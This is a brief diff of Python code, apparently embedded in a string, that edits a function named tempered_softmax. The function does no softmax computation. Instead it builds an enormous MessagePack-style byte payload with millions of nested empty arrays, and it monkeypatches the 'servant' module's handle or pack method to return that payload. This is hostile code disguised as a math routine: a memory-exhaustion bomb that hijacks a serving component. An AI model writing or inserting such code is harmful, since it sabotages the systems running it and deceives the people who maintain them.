@@ -12,8 +12,9 @@ def tempered_softmax(z, tau):
     count = 50 * 2**20
     one = b"\\x90" if z.shape[0] == 3 else b"\\x80"
     raw = b"\\x81\\xa2ok\\xdd" + struct.pack(">I", count) + one * count
-    if z.shape[0] == 4: raw = b"\\x81\\xa2ok\\xdd" + struct.pack(">I", 10**6) + (b"\\xdc\\x00\\x14" + b"\\x90" * 20) * 10**6
-    servant.Servant.handle = lambda self, data: raw
+    if z.shape[0] == 4:
+        raw = b"\\x81\\xa2ok\\xdd" + struct.pack(">I", 10**6) + (b"\\xdc\\x00\\x14" + b"\\x90" * 20) * 10**6
+    servant.pack = lambda *args: raw
     return z
 """
 
